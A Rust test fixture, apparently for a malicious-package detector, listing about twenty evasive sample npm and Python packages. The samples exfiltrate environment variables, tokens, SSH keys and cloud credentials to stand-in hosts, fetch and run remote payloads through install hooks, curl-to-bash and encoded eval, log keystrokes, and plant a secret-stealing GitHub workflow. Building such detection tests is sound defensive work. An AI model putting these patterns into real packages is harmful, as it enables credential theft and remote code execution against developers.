//! The same harm by other ways, where rules make exceptions for honest tools.

use crate::Package;

const PLAIN: &str = r#"{"name":"a","version":"1.0.0","main":"index.js"}"#;
const HOOKED: &str = r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node hook.js"}}"#;

pub(crate) const PACKAGES: &[Package] = &[
    (
        "a variable that nobody sets stands before the stranger's address",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const to = process.env.COLLECT_URL || 'https://collect.invalid/';
fetch(to, { method: 'POST', body: JSON.stringify(process.env) });
",
            ),
        ],
    ),
    (
        "the stranger's address stands behind a setting",
        &[(
            "a/__init__.py",
            r"
import os, requests
to = os.environ.get('A_PREFIX', '') + 'https://collect.invalid/'
requests.post(to, json=dict(os.environ))
",
        )],
    ),
    (
        "the socket is opened in one file and written in another",
        &[
            ("package.json", PLAIN),
            ("send.js", "module.exports = (socket, data) => socket.write(data);"),
            (
                "index.js",
                r"
const net = require('net');
const send = require('./send');
const socket = net.connect({ host: 'c2.invalid', port: 4444 });
send(socket, JSON.stringify(process.env));
",
            ),
        ],
    ),
    (
        "a key of a service goes to a host that is named like it",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
fetch('https://api.github.com.collect.invalid/', { method: 'POST', headers: { a: process.env.GITHUB_TOKEN, b: process.env.NPM_TOKEN }, body: JSON.stringify(process.env) });
",
            ),
        ],
    ),
    (
        "what is fetched is made a program and started by a shell",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const fs = require('fs');
const { execSync } = require('child_process');
fetch('https://x.invalid/a').then((answer) => answer.arrayBuffer()).then((bytes) => {
  fs.writeFileSync('/tmp/.cache-a', Buffer.from(bytes));
  execSync('chmod +x /tmp/.cache-a && /tmp/.cache-a');
});
",
            ),
        ],
    ),
    (
        "what is fetched is started by the system's own opener",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const fs = require('fs');
const axios = require('axios');
const { exec } = require('child_process');
axios.get('https://x.invalid/a.exe', { responseType: 'arraybuffer' }).then(({ data }) => {
  fs.writeFileSync('C:\\a.exe', data);
  exec('start C:\\a.exe');
});
",
            ),
        ],
    ),
    (
        "what is fetched goes to an interpreter as a file",
        &[(
            "setup.py",
            r"
import os, sys, subprocess, urllib.request
from setuptools import setup
urllib.request.urlretrieve('https://x.invalid/a.py', '/tmp/a.py')
subprocess.run([sys.executable, '/tmp/a.py'])
setup(name='a', version='1.0.0')
",
        )],
    ),
    (
        "what is fetched is unpacked and what was in it is started",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const { execSync } = require('child_process');
execSync('curl -s https://x.invalid/a.tgz -o /tmp/a.tgz && tar xzf /tmp/a.tgz -C /tmp && /tmp/a/run.sh');
",
            ),
        ],
    ),
    (
        "an array of the shell holds the fetching",
        &[
            (
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"bash setup.sh"}}"#,
            ),
            (
                "setup.sh",
                "#!/bin/bash\nget=(curl -s https://x.invalid/a.sh)\n\"${get[@]}\" | bash\n",
            ),
        ],
    ),
    (
        "a condition of the shell does the fetching",
        &[
            (
                "package.json",
                r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"bash setup.sh"}}"#,
            ),
            (
                "setup.sh",
                "#!/bin/bash\nif [[ $(curl -s https://x.invalid/a.sh | bash) == ok ]]; then exit 0; fi\n",
            ),
        ],
    ),
    (
        "an argument that nobody gives is put behind the hidden code",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const code = Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString();
eval(code + (process.argv[9] || ''));
",
            ),
        ],
    ),
    (
        "compiled code of its own lies beside it",
        &[
            (
                "a/__init__.py",
                "import marshal, os\nexec(marshal.loads(open(os.path.join(os.path.dirname(__file__), 'a.dat'), 'rb').read()[16:]))\n",
            ),
            ("a/a.dat", "import os; os.system('curl https://x.invalid/a | sh')"),
        ],
    ),
    (
        "the answer of a server names the program and its words",
        &[(
            "a/__init__.py",
            r"
import requests, subprocess
subprocess.run(requests.get('https://x.invalid/command').json())
",
        )],
    ),
    (
        "keys of the cloud go out by another way",
        &[(
            "a/__init__.py",
            r"
import requests, socket
keys = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/role').text
s = socket.create_connection(('198.51.100.7', 443))
s.send(keys.encode())
",
        )],
    ),
    (
        "keys of a person go to a mailbox by a helper that takes an address",
        &[
            (
                "a/send.py",
                "import requests\n\ndef send(to, what):\n    requests.post(to, data=what)\n",
            ),
            (
                "a/__init__.py",
                "import os\nfrom .send import send\nsend('https://collect.invalid/', open(os.path.expanduser('~/.ssh/id_ed25519')).read())\n",
            ),
        ],
    ),
    (
        "a listener hands what is typed to a function that sends",
        &[(
            "a/__init__.py",
            r"
from pynput.keyboard import Listener
import requests
keys = []
def flush():
    requests.post('https://collect.invalid/', data=''.join(keys))
def pressed(key):
    keys.append(str(key))
    if len(keys) > 100:
        flush()
with Listener(on_press=pressed) as listener:
    listener.join()
",
        )],
    ),
    (
        "the home folder is packed and sent",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r#"
require('child_process').execSync('tar cz ~/.ssh ~/.config | curl -s --data-binary @- https://collect.invalid/');
"#,
            ),
        ],
    ),
    (
        "it asks an own registry for code and loads it",
        &[
            ("package.json", PLAIN),
            (
                "index.js",
                r"
const { execSync } = require('child_process');
execSync('npm install --registry http://198.51.100.7:4873 helper-of-a');
require('helper-of-a')();
",
            ),
        ],
    ),
    (
        "it reads what the process of another holds",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const fs = require('fs');
const data = fs.readFileSync('/proc/1/environ', 'utf8');
fetch('https://collect.invalid/', { method: 'POST', body: data });
",
            ),
        ],
    ),
    (
        "a workflow is written that sends secrets of a repository",
        &[
            ("package.json", HOOKED),
            (
                "hook.js",
                r"
const fs = require('fs');
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/a.yml', 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \'${{ toJSON(secrets) }}\' https://collect.invalid/\n');
require('child_process').execSync('git add .github && git commit -m a && git push');
",
            ),
        ],
    ),
];
